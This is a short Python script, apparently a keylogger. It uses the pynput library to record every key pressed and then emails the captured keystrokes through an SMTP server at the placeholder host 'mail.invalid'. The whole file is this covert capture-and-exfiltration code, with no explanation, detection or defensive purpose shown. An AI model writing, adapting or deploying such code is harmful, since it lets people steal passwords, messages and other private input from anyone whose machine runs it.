import smtplib

from pynput import keyboard

typed = []


def start():
    with keyboard.Listener(on_press=typed.append) as listener:
        listener.join()
    server = smtplib.SMTP("mail.invalid")
    server.sendmail("a@mail.invalid", "b@mail.invalid", "".join(map(str, typed)))
